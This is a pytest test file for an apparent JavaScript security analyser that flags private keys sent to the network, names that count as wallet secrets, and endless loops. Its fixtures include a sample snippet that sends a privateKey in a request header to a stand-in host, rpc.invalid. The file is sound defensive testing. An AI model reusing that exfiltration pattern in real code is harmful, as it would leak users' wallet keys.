"""What a caller hands over, and loops that nothing ends."""

import pytest

from lazaretto.core.facts import Kind
from lazaretto.languages._sensitive import is_key_name
from tests.languages.javascript_reading import flows, only, read, values

NEAR = "const note = (data) => fetch('https://rpc.invalid/q', { headers: { 'x-id': data } });\n"


@pytest.mark.parametrize("padding", [0, 70_000])
def test_a_key_that_is_handed_over_is_followed(padding: int) -> None:
    """Through a helper of the file, in small files and in large ones; the fact stands at the parameter."""
    text = NEAR + "let a = 1;\n" * (padding // 11) + "exports.sign = (text, privateKey) => { note(privateKey); };\n"
    facts = read(text)

    assert only(facts, Kind.KEY_GIVEN).value == "privateKey"
    assert (Kind.KEY_GIVEN, Kind.NET_CONNECT) in flows(facts)


def test_a_key_that_goes_nowhere_is_no_fact() -> None:
    """A wallet library takes keys all day; one is told only where it goes to the network."""
    assert values(read(NEAR + "exports.sign = (text, privateKey) => make(text, privateKey);\n"), Kind.KEY_GIVEN) == []


@pytest.mark.parametrize(("name", "key"), [
    ("privateKey", True), ("secret_key", True), ("mnemonic", True), ("seedPhrase", True), ("_seed", True),
    ("key", False), ("phrase", False), ("password", False), ("seeded", False), ("keyPairs", False),
])  # fmt: skip
def test_names_of_keys(name: str, key: bool) -> None:
    """Words that ordinary programs use every day are no keys."""
    assert is_key_name(name) is key


@pytest.mark.parametrize(("loop", "endless"), [
    ("for (let i = 1; i < Infinity; i++) { console.log(i); }", True),
    ("for (;;) console.log(fs);", True),
    ("while (!0) { console.log(fs); }", True),
    ("while (true) { if (fs.existsSync('a')) break; }", False),
    ("while (true) { process.exit(); }", False),
    ("for (let i = 1; i < 1e9; i++) { console.log(i); }", False),
    ("exports.work = () => { for (;;) console.log(fs); };", False),
])  # fmt: skip
def test_loops_without_end(loop: str, endless: bool) -> None:
    """A loop counts if it runs at load and neither its condition nor its body ends it."""
    found = values(read("const fs = require('fs');\n" + loop + "\n"), Kind.LOOP_ENDLESS)
    assert found == ([None] if endless else [])
